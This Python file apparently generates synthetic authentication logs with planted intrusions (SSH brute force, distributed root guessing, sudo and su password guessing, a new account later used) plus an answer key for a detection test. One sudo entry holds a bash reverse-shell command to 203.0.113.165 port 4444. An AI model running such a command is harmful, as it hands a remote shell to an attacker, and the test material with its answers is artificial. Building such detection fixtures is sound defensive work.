"""Further authentication logs: refusals that only PAM logs, folded lines, an account guessed from everywhere, local abuse."""
from auth import Syslog
from common import after, at

PAM = "pam_unix(%s:auth): authentication failure; logname=%s uid=%d euid=0 tty=%s ruser=%s rhost=%s  user=%s"


def guessing(answers):
    """file-01: an sshd that logs no refusals itself, lines that syslog folded, root guessed from forty addresses."""
    log = Syslog("attacks/auth-file-01.log", "file-01")
    log.ordinary()
    first = moment = at(1, 20, 9)
    for number in range(26):
        log.say(moment, "sshd", PAM % ("sshd", "", 0, "ssh", "", "203.0.113.161", "root"))
        last, moment = moment, after(moment, 3 + number % 4)
    answers.add(log.path, "ssh_brute_force", "203.0.113.161", first, last)

    first = moment = at(9, 2, 10)
    for number in range(24):
        log.say(moment, "sshd", PAM % ("sshd", "", 0, "ssh", "", "203.0.113.162", "root"))
        last, moment = moment, after(moment, 400 + 20 * (number % 4))
    answers.add(log.path, "ssh_brute_force", "203.0.113.162", first, last)

    first = moment = at(4, 40, 2)
    for number in range(7):
        text = "Failed password for root from 203.0.113.163 port %d ssh2" % (40100 + number)
        log.say(moment, "sshd", text)
        last = after(moment, 5)
        log.say(last, "sshd", "message repeated 4 times: [ %s]" % text)
        moment = after(moment, 11)
    answers.add(log.path, "ssh_brute_force", "203.0.113.163", first, last)

    first = moment = at(22, 0, 1)
    for number in range(44):
        log.failed(moment, "root", "203.0.113.%d" % (170 + number))
        last, moment = moment, after(moment, 20 + log.random.randrange(40))
    answers.add(log.path, "ssh_distributed_guessing_usual", "root", first, last)
    log.write()


def inside(answers):
    """app-02: passwords refused to sudo and su by PAM, a shell sent out through sudo, an account made and used."""
    log = Syslog("attacks/auth-app-02.log", "app-02", "iso")
    log.ordinary()
    first = moment = at(10, 4, 0)
    for number in range(6):
        log.say(moment, "sudo", PAM % ("sudo", "chi.le", 1007, "/dev/pts/1", "chi.le", "", "chi.le"), False)
        last, moment = moment, after(moment, 25)
    answers.add(log.path, "sudo_password_guessing", "chi.le", first, last)

    first = moment = at(15, 30, 7)
    for number in range(7):
        log.say(moment, "su", PAM % ("su", "binh.tran", 1008, "pts/3", "binh.tran", "", "root"))
        last, moment = moment, after(moment, 14)
    answers.add(log.path, "su_guessing", "binh.tran", first, last)

    first = at(17, 12, 44)
    log.sudo(first, "yen.phan", "/bin/bash -c bash -i >& /dev/tcp/203.0.113.165/4444 0>&1")
    answers.add(log.path, "sudo_network_shell", "yen.phan", first, first)

    first = at(21, 5, 0)
    log.say(first, "useradd", "new user: name=helpdesk9, UID=1021, GID=1021, home=/home/helpdesk9, shell=/bin/bash, from=/dev/pts/2")
    last = at(21, 11, 30)
    log.accepted(last, "helpdesk9", "203.0.113.166")
    answers.add(log.path, "new_account_used", "helpdesk9", first, last)
    log.write()


def make(answers):
    guessing(answers)
    inside(answers)
